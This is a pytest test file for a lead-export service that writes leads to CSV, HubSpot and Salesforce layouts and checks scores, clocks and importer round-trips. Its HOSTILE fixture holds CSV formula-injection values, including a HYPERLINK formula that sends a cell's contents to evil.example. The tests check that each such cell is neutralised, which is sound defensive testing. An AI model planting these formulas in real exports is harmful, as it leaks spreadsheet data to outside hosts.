"""Exporting leads from the migrated store (SQLite and PostgreSQL): every lead, page by page,
with its score and newest clock as of `now`, in each layout; and read back by the importers."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from leadpact.adapters.importers import hubspot, salesforce
from leadpact.adapters.importers.table import Row, TableFile
from leadpact.adapters.importers.values import find_columns
from leadpact.bootstrap import App
from leadpact.domain.clocks import ClockState
from leadpact.domain.lifecycle import Stage
from leadpact.services.export import export_leads, read_leads
from leadpact.services.ingest import ingest
from tests.factories import event, lines, sign_example_pact
from tests.integration.test_ingest import FIT, JST, T1, marketing_events

NOW = datetime(2026, 4, 13, 12, 0, tzinfo=JST)  # the next Monday, noon
HOSTILE = {
    "company": '=HYPERLINK("http://evil.example/?x="&A1,"請求書")',
    "name": "@SUM(1+1)",
    "title": "-2+3",
    "first_name": "\tタブ",
    "last_name": "\r改行",
    "source": "+web",
}


def named(kind: str, at: datetime, email: str, system: str | None = None, ref: str | None = None, **fields: Any) -> Any:
    """An event naming its lead by e-mail and, when given, by another system's id too."""
    body = event(kind, at, lead=email, **fields)
    if system is not None:
        body["lead"] = {"email": email, "system": system, "id": ref}
    return body


def store_events() -> list[Any]:
    """Five leads, by id:
    1 taro: MQL at T1+2h, assigned to 田中 at T1+4h, never contacted (is_first_contact late at NOW);
    2 hanako: a lead known to HubSpot and to Salesforce (a Lead id and the Contact id it became);
    3 jiro: disqualified by marketing;
    4 saburo: MQL, assigned, called the next day and accepted (is_first_contact met);
    5 a lead whose every text cell is a formula a spreadsheet would run.
    """
    saburo = "saburo@example.co.jp"
    return [
        *marketing_events(),
        named("assignment", T1 + timedelta(hours=4), "taro@example.co.jp", "hubspot", "5101", to="田中"),
        named(
            "lead_upsert",
            T1,
            "hanako@example.co.jp",
            "hubspot",
            "5230",
            attributes={"company": "株式会社花子商事", "first_name": "花子", "last_name": "佐藤", "title": "部長"},
        ),
        named("lead_upsert", T1, "hanako@example.co.jp", "hubspot", "5102"),
        named("lead_upsert", T1, "hanako@example.co.jp", "salesforce", "0035g00000XyZabAAB"),
        named("lead_upsert", T1, "hanako@example.co.jp", "salesforce", "00Q5g00000AbCdEAAZ"),
        named("lead_upsert", T1, "jiro@example.co.jp", attributes={"industry": "小売業", "employees": 20}),
        named(
            "stage_change",
            T1 + timedelta(days=1),
            "jiro@example.co.jp",
            to="disqualified",
            by="佐藤",
            reason="out_of_target",
        ),
        named("lead_upsert", T1, saburo, attributes=FIT),
        named("activity", T1, saburo, activity="document_download"),
        named("activity", T1 + timedelta(hours=1), saburo, activity="seminar_attended"),
        named("activity", T1 + timedelta(hours=2), saburo, activity="page_view", properties={"url": "/pricing"}),
        named("assignment", T1 + timedelta(hours=4), saburo, to="田中"),
        named("contact_logged", T1 + timedelta(days=1), saburo, by="田中", channel="phone"),
        named("stage_change", T1 + timedelta(days=1, minutes=5), saburo, to="sal", by="田中"),
        named("lead_upsert", T1, "evil@example.co.jp", attributes=HOSTILE),
    ]


@pytest.fixture
def store(app: App) -> App:
    sign_example_pact(app)
    report = ingest(app.engine, app.clock, lines(store_events()))
    assert report.rejected == [], report.rejected
    return app


def exported(app: App, target: str, encoding: str | None = None) -> tuple[list[list[str]], Any]:
    stream = io.BytesIO()
    report = export_leads(app.engine, NOW, target, stream, encoding)
    text = stream.getvalue().decode(report.encoding)
    return list(csv.reader(io.StringIO(text, newline=""))), report


def decayed(points: float, half_life_days: float, at: datetime) -> float:
    return points * 0.5 ** ((NOW - at).total_seconds() / 86_400 / half_life_days)


# Hand-computed from the example pact at NOW: fit 25 (industry 15 + size 10), then each activity
# decayed by its rule's half-life (download 90 d, seminar 120 d, page views 30 d).
TARO = (
    25
    + decayed(20, 90, T1)
    + decayed(30, 120, T1 + timedelta(hours=1))
    + decayed(10 + 2, 30, T1 + timedelta(hours=2))
    + decayed(2, 30, T1 + timedelta(hours=3))
)
SABURO = 25 + decayed(20, 90, T1) + decayed(30, 120, T1 + timedelta(hours=1)) + decayed(12, 30, T1 + timedelta(hours=2))


def test_every_lead_goes_out_with_its_stage_score_owner_and_newest_clock_as_of_now(store: App) -> None:
    pages = read_leads(store.engine, NOW, page=2)  # three pages
    assert (pages.timezone, pages.pact_version) == ("Asia/Tokyo", 1)
    found = {lead.email: lead for lead in pages.leads}
    assert list(found) == [
        "taro@example.co.jp",
        "hanako@example.co.jp",
        "jiro@example.co.jp",
        "saburo@example.co.jp",
        "evil@example.co.jp",
    ]
    taro, hanako, jiro, saburo, evil = found.values()
    assert [lead.id for lead in found.values()] == [1, 2, 3, 4, 5]
    assert [lead.stage for lead in found.values()] == [Stage.MQL, Stage.LEAD, Stage.DISQUALIFIED, Stage.SAL, Stage.LEAD]
    assert (taro.owner, taro.owner_email, taro.owner_department) == ("田中", "田中@corp.example", "inside_sales")
    assert taro.score == pytest.approx(TARO, abs=1e-6) and saburo.score == pytest.approx(SABURO, abs=1e-6)
    assert (hanako.score, jiro.score, evil.score) == (10.0, 0.0, 0.0)  # title 部長 10; nothing; nothing
    # the first-contact clock started at the assignment (Mon 14:00), due after 3 business days (Thu
    # ends at Fri 00:00): at the next Monday noon taro's runs 2 business days late (Fri, Mon);
    # saburo was called on Tuesday
    assert taro.clock is not None and saburo.clock is not None
    assert (taro.clock.clock_id, taro.clock_state, taro.business_days_late) == (
        "is_first_contact",
        ClockState.BREACHED,
        2,
    )
    assert taro.clock.due_at == datetime(2026, 4, 10, 0, 0, tzinfo=JST)
    assert (saburo.clock.clock_id, saburo.clock_state, saburo.business_days_late) == (
        "is_first_contact",
        ClockState.MET,
        0,
    )
    assert (hanako.clock, hanako.clock_state, hanako.business_days_late) == (None, None, None)
    assert hanako.refs == (
        ("hubspot", "5102"),
        ("hubspot", "5230"),
        ("salesforce", "0035g00000XyZabAAB"),
        ("salesforce", "00Q5g00000AbCdEAAZ"),
    )
    # the Thursday evening before, taro's clock was due soon (4 h of its 82 h left, under its 25 % share)
    thursday = datetime(2026, 4, 9, 20, 0, tzinfo=JST)
    (early,) = [lead for lead in read_leads(store.engine, thursday).leads if lead.id == 1]
    assert (early.clock_state, early.business_days_late) == (ClockState.DUE_SOON, 0)


def test_the_csv_layout_holds_leadpacts_own_columns(store: App) -> None:
    rows, report = exported(store, "csv")
    assert (report.target, report.encoding, report.rows, report.replaced) == ("csv", "utf-8-sig", 5, [])
    assert rows == [
        [
            "id",
            "email",
            "company",
            "stage",
            "stage_changed_at",
            "score",
            "owner",
            "owner_email",
            "owner_department",
            "clock_id",
            "clock_state",
            "clock_due_at",
            "clock_stopped_at",
            "clock_stopped_by",
            "business_days_late",
            "external_ids",
        ],
        [
            "1",
            "taro@example.co.jp",
            "株式会社テスト製作所",
            "mql",
            "2026-04-06T12:00:00+09:00",
            f"{TARO:.1f}",
            "田中",
            "田中@corp.example",
            "inside_sales",
            "is_first_contact",
            "breached",
            "2026-04-10T00:00:00+09:00",
            "",
            "",
            "2",
            "hubspot:5101",
        ],
        [
            "2",
            "hanako@example.co.jp",
            "株式会社花子商事",
            "lead",
            "2026-04-06T10:00:00+09:00",
            "10.0",
            *[""] * 9,
            "hubspot:5102; hubspot:5230; salesforce:0035g00000XyZabAAB; salesforce:00Q5g00000AbCdEAAZ",
        ],
        ["3", "jiro@example.co.jp", "", "disqualified", "2026-04-07T10:00:00+09:00", "0.0", *[""] * 10],
        [
            "4",
            "saburo@example.co.jp",
            "株式会社テスト製作所",
            "sal",
            "2026-04-07T10:05:00+09:00",
            f"{SABURO:.1f}",
            "田中",
            "田中@corp.example",
            "inside_sales",
            "is_first_contact",
            "met",
            "2026-04-10T00:00:00+09:00",
            "2026-04-07T10:00:00+09:00",
            "first_contact",
            "0",
            "",
        ],
        ["5", "evil@example.co.jp", "'" + HOSTILE["company"], "lead", "2026-04-06T10:00:00+09:00", "0.0", *[""] * 10],
    ]


def written(app: App, target: str, tmp_path: Path) -> list[Row]:
    path = tmp_path / f"{target}.csv"
    with path.open("wb") as stream:
        export_leads(app.engine, NOW, target, stream)
    table = TableFile(path)
    found = list(table.rows())
    assert all(isinstance(r, Row) for r in found) and table.problems == []
    return [r for r in found if isinstance(r, Row)]


# What each vendor's vocabulary can say of a stage: its own, or the nearest it has (docs/export.md).
HUBSPOT_READS = {"lead": Stage.LEAD, "mql": Stage.MQL, "sal": Stage.MQL, "disqualified": Stage.DISQUALIFIED}
SALESFORCE_READS = {"lead": None, "mql": Stage.MQL, "sal": Stage.SAL, "disqualified": Stage.DISQUALIFIED}


def test_a_hubspot_export_reads_back_through_the_hubspot_importer_with_the_same_stages(
    store: App, tmp_path: Path
) -> None:
    rows = written(store, "hubspot", tmp_path)
    columns, _ = hubspot.header_map(rows[0].cells)
    assert {f: columns[f] for f in ("record_id", "email", "lifecycle_stage", "lead_status", "owner")} == {
        "record_id": "Record ID",
        "email": "Email",
        "lifecycle_stage": "Lifecycle Stage",
        "lead_status": "Lead Status",
        "owner": "Contact owner",
    }
    read_back = []
    for row in rows:
        implied = hubspot.lead_status(row.cells["Lead Status"]) if row.cells["Lead Status"] else None
        stage = implied[0] if implied else hubspot.lifecycle_stage(row.cells["Lifecycle Stage"])
        exact = Stage(row.cells["leadpact Stage"])
        read_back.append((row.cells["Record ID"], row.cells["Email"], row.cells["Contact owner"], exact, stage))
    assert read_back == [
        ("5101", "taro@example.co.jp", "田中@corp.example", Stage.MQL, HUBSPOT_READS["mql"]),
        ("5102", "hanako@example.co.jp", "", Stage.LEAD, HUBSPOT_READS["lead"]),
        ("", "jiro@example.co.jp", "", Stage.DISQUALIFIED, HUBSPOT_READS["disqualified"]),
        ("", "saburo@example.co.jp", "田中@corp.example", Stage.SAL, HUBSPOT_READS["sal"]),
        ("", "evil@example.co.jp", "", Stage.LEAD, HUBSPOT_READS["lead"]),
    ]


def test_a_salesforce_export_reads_back_through_the_salesforce_importer_with_the_same_stages(
    store: App, tmp_path: Path
) -> None:
    rows = written(store, "salesforce", tmp_path)
    columns = find_columns(rows[0].cells, salesforce.LEAD_COLUMNS)
    assert {f: columns[f] for f in ("record_id", "email", "last_name", "company", "status", "source")} == {
        "record_id": "Id",
        "email": "Email",
        "last_name": "LastName",
        "company": "Company",
        "status": "Status",
        "source": "LeadSource",
    }
    read_back = [
        (
            row.cells["Id"],
            row.cells["Email"],
            Stage(row.cells["leadpact_Stage__c"]),
            salesforce.lead_stage(row.cells["Status"]),
        )
        for row in rows
    ]
    assert read_back == [
        ("", "taro@example.co.jp", Stage.MQL, SALESFORCE_READS["mql"]),
        ("00Q5g00000AbCdEAAZ", "hanako@example.co.jp", Stage.LEAD, SALESFORCE_READS["lead"]),
        ("", "jiro@example.co.jp", Stage.DISQUALIFIED, SALESFORCE_READS["disqualified"]),
        ("", "saburo@example.co.jp", Stage.SAL, SALESFORCE_READS["sal"]),
        ("", "evil@example.co.jp", Stage.LEAD, SALESFORCE_READS["lead"]),
    ]
    assert [(row.cells["LastName"], row.cells["Company"]) for row in rows[:3]] == [
        ("[not provided]", "株式会社テスト製作所"),
        ("佐藤", "株式会社花子商事"),
        ("[not provided]", "[not provided]"),
    ]


# Each layout's cells of lead 5, whose texts are all formulas: each kept, behind a quote.
EVIL = {
    "csv": {"company": "'" + HOSTILE["company"]},
    "hubspot": {
        "First Name": "'\tタブ",
        "Last Name": "'\r改行",
        "Company Name": "'" + HOSTILE["company"],
        "Job Title": "'-2+3",
    },
    "salesforce": {
        "FirstName": "'\tタブ",
        "LastName": "'\r改行",
        "Company": "'" + HOSTILE["company"],
        "Title": "'-2+3",
        "LeadSource": "'+web",
    },
}


@pytest.mark.parametrize("target", ["csv", "hubspot", "salesforce"])
def test_no_exported_cell_runs_as_a_formula(store: App, target: str) -> None:
    rows, _ = exported(store, target)
    header, *body = rows
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (target, cell)
    evil = dict(zip(header, body[4], strict=True))
    assert {name: evil[name] for name in EVIL[target]} == EVIL[target]


def test_a_few_thousand_leads_stream_out_a_page_at_a_time(app: App) -> None:
    count = 2_500
    upserts = [
        event("lead_upsert", T1, lead=f"lead{i}@example.co.jp", attributes={"company": f"会社{i}"})
        for i in range(count)
    ]
    report = ingest(app.engine, app.clock, lines(upserts))
    assert report.created == count
    pages = read_leads(app.engine, NOW, page=1_000)
    assert pages.pact_version is None  # no pact signed: no scores, times in the default calendar's zone
    first = next(pages.leads)
    assert (first.id, first.email, first.score) == (1, "lead0@example.co.jp", None)
    # pages are read as the export goes: a lead added meanwhile, after the page being read, goes out too
    ingest(app.engine, app.clock, lines([event("lead_upsert", T1, lead="late@example.co.jp")]))
    rest = list(pages.leads)
    assert [lead.id for lead in rest] == list(range(2, count + 2))
    assert rest[-2].email == f"lead{count - 1}@example.co.jp" and rest[-1].email == "late@example.co.jp"
    stream = io.BytesIO()
    exported_ = export_leads(app.engine, NOW, "csv", stream, page=700)
    assert exported_.rows == count + 1 and exported_.pact_version is None
    assert stream.getvalue().count(b"\r\n") == count + 2  # the header and a line per lead


def test_a_cp932_export_says_which_cells_it_could_not_write(app: App) -> None:
    sign_example_pact(app)
    upserts = [
        event("lead_upsert", T1, lead="takasaki@example.co.jp", attributes={"company": "髙﨑製作所①"}),
        event("lead_upsert", T1, lead="yoshida@example.co.jp", attributes={"company": "𠮷野家🍚"}),
    ]
    ingest(app.engine, app.clock, lines(upserts))
    rows, report = exported(app, "csv", "Shift_JIS")
    assert report.encoding == "cp932"
    assert [row[2] for row in rows[1:]] == ["髙﨑製作所①", "?野家?"]  # CP932 holds NEC and IBM extensions
    assert report.replaced == [(2, "company")]
